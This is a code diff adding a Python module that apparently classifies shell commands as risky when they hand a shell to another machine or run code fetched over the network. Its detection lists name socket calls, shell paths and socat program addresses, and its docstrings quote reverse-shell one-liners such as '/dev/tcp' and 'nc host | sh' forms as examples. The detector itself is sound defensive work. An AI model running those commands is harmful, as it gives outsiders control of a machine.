@@ -1,0 +1,107 @@
+"""Shells that are given to another machine, and code that comes from one as it runs."""
+
+from __future__ import annotations
+
+from assent.risk.category import Category
+from assent.risk.entries.programs import CONNECTING, INTERPRETERS, SHELLS, reads_code, runs_text
+from assent.risk.redirected import NETWORK
+
+TYPE_CHECKING = False
+if TYPE_CHECKING:
+    from assent.command.model import Command
+    from assent.risk.disk.access import Risk
+    from assent.risk.finding import Finding
+    from assent.risk.flow import Flow
+
+SOCKETS = (  # how code of scripting languages connects
+    "socket",
+    "Socket",
+    "fsockopen",
+    "net.connect",
+    "createConnection",
+    "/inet/tcp",
+    "/inet/udp",
+    "('net')",
+    '("net")',
+)
+SPAWNING = (
+    *("/bin/sh", "/bin/bash", "/bin/zsh", "/bin/dash", "pty.spawn", "cmd.exe", "powershell", "|& getline", "|&getline"),
+    *[f"{quote}{shell}{end}" for shell in ("sh", "bash") for quote in "'\"" for end in (quote, " ")],
+    "IO.popen",
+)
+RUNS = ("exec:", "system:", "shell:")  # addresses of socat that are programs
+AWAY = ("tcp", "udp", "openssl", "sctp", "socks", "ssl", "dtls", "proxy")
+
+
+class Takeover:
+    """What connections of a text are given."""
+
+    __slots__ = ("flow", "looped", "piped", "source")
+
+    def __init__(self, flow: Flow) -> None:
+        self.flow = flow
+        self.looped = any(finding.command.program in ("mkfifo", "mknod") for finding in flow.findings)
+        self.piped = {finding.command.stdin: finding.command for finding in reversed(flow.findings)}
+        self.source = _network(flow)
+
+    def risk(self, at: int, finding: Finding) -> Risk | None:
+        """What a connection makes of the command with that index."""
+        command = finding.command
+        if command.program == "socat":
+            return _joined(command)
+        if command.program in SHELLS and reads_code(command):
+            return self._piped(at, command) or self._copied(command)
+        if finding.category is not Category.Unrecognized:
+            return None
+        if command.program in INTERPRETERS:
+            return _coded(command)
+        if self.source and (command.program is None or runs_text(command)):
+            return Category.Destroys, f"`{command.text}` may run what comes from `{self.source}`"
+        return None
+
+    def _copied(self, command: Command) -> Risk | None:
+        """`exec 5<>/dev/tcp/host/1; sh <&5`."""
+        if self.source and any(redirection.operator == "<&" for redirection in command.redirects):
+            return Category.Destroys, f"`{command.program}` may take its commands from `{self.source}`"
+        return None
+
+    def _piped(self, at: int, command: Command) -> Risk | None:
+        """`nc host 1 | sh`, and `sh -i < pipe | nc host 1 > pipe` with a named pipe."""
+        source = None if command.stdin is None else self.flow.findings[command.stdin].command
+        if source is not None and _connects(source):
+            return Category.Destroys, f"`{command.program}` takes its commands from `{source.text}`"
+        target = self.piped.get(at)
+        interactive = self.looped or any(word.text == "-i" for word in command.argv)
+        if interactive and target is not None and _connects(target):
+            return Category.Destroys, f"`{command.program}` is given to `{target.text}`"
+        return None
+
+
+def _network(flow: Flow) -> str:
+    """The connection that the shell itself opens to read from: `exec 5<>/dev/tcp/host/1`."""
+    for finding in flow.findings:
+        for redirection in finding.command.redirects:
+            target = redirection.target
+            if redirection.reads and target is not None and target.text.startswith(NETWORK):
+                return target.text
+    return ""
+
+
+def _joined(command: Command) -> Risk | None:
+    words = [word.text.casefold() for word in command.argv[1:]]
+    if any(word.startswith(RUNS) for word in words) and any(word.startswith(AWAY) for word in words):
+        return Category.Destroys, f"`{command.text}` gives another machine a program"
+    return None
+
+
+def _coded(command: Command) -> Risk | None:
+    text = "\n".join([word.text for word in command.argv[1:]])
+    if any(part in text for part in SOCKETS) and any(part in text for part in SPAWNING):
+        return Category.Destroys, f"the code of `{command.program}` gives another machine a shell"
+    return None
+
+
+def _connects(command: Command) -> bool:
+    if command.program == "openssl":
+        return any(word.text == "s_client" for word in command.argv[1:2])
+    return command.program in CONNECTING
